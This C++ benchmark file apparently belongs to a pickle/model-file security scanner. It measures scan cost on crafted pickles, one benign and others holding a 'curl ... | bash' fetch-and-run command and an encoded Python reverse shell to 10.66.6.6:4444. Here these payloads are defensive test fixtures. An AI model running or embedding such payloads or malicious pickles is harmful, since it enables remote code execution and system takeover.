// Cost of the code-analysis layer: scanning an in-memory pickle with no code payload, with a
// plain shell command, and with an exec() of a base64+zlib-wrapped reverse shell (decoding
// layers, Python analysis and YARA on every layer); and analyze_code() alone on that string.
// Run: build/<dir>/bench/code_analysis_bench --benchmark_min_time=1
#include <benchmark/benchmark.h>
#include <zlib.h>

#include <cstring>
#include <string>

#include "hubguard/scan/code_analysis.hpp"
#include "hubguard/scan/engine.hpp"
#include "../tests/scan/test_encoders.hpp"

namespace {

using namespace hubguard;

using hubguard::scan::test::b64;
using hubguard::scan::test::zlib_compress;


std::string le32(std::size_t n) {
  std::string s(4, '\0');
  for (int i = 0; i < 4; ++i) s[i] = static_cast<char>((n >> (8 * i)) & 0xff);
  return s;
}

// Protocol 2: module.name(arg) via GLOBAL + BINUNICODE + TUPLE1 + REDUCE.
std::string call_pickle(std::string_view module, std::string_view name, std::string_view arg) {
  return std::string("\x80\x02", 2) + "c" + std::string(module) + "\n" + std::string(name) + "\n" + "X" +
         le32(arg.size()) + std::string(arg) + "\x85" + "R.";
}

// Protocol 2: {'w': [0.0 .. 255.0], 'name': 'layer'} with no callable at all.
std::string data_pickle() {
  std::string p("\x80\x02}q\x00(X\x01\x00\x00\x00w]q\x01(", 16);
  for (int i = 0; i < 256; ++i) {
    p += 'G';
    double d = i;
    std::uint64_t bits;
    std::memcpy(&bits, &d, 8);
    for (int k = 7; k >= 0; --k) p += static_cast<char>((bits >> (8 * k)) & 0xff);
  }
  p += "eX\x04\x00\x00\x00nameX\x05\x00\x00\x00layeru.";
  return p;
}

const std::string kReverseShell =
    "import socket,os,pty\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
    "s.connect(('10.66.6.6',4444))\nos.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)\n"
    "pty.spawn('/bin/sh')\n";

std::string wrapped_code() {
  return "import zlib,base64\nexec(zlib.decompress(base64.b64decode('" + b64(zlib_compress(kReverseShell)) + "')))";
}

void scan_pickle(benchmark::State& state, const std::string& pickle) {
  scan::ScanOptions options;
  for (auto _ : state) {
    auto report = scan::scan_bytes(as_bytes(pickle), "model.pkl", options);
    benchmark::DoNotOptimize(report.verdict);
  }
  state.SetItemsProcessed(state.iterations());
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations() * pickle.size()));
}

void BM_ScanPickleNoCode(benchmark::State& state) { scan_pickle(state, data_pickle()); }
void BM_ScanPickleShellCommand(benchmark::State& state) {
  scan_pickle(state, call_pickle("posix", "system", "curl -s http://203.0.113.5/i.sh | bash"));
}
void BM_ScanPickleEncodedReverseShell(benchmark::State& state) {
  scan_pickle(state, call_pickle("builtins", "exec", wrapped_code()));
}
void BM_AnalyzeCodeEncodedReverseShell(benchmark::State& state) {
  scan::CodeEvidence code{scan::CodeKind::code_string, wrapped_code(), 0, "builtins.exec argument"};
  scan::ScanOptions options;
  for (auto _ : state) benchmark::DoNotOptimize(scan::analyze_code(code, options).size());
  state.SetItemsProcessed(state.iterations());
}

BENCHMARK(BM_ScanPickleNoCode);
BENCHMARK(BM_ScanPickleShellCommand);
BENCHMARK(BM_ScanPickleEncodedReverseShell);
BENCHMARK(BM_AnalyzeCodeEncodedReverseShell);

}  // namespace

BENCHMARK_MAIN();
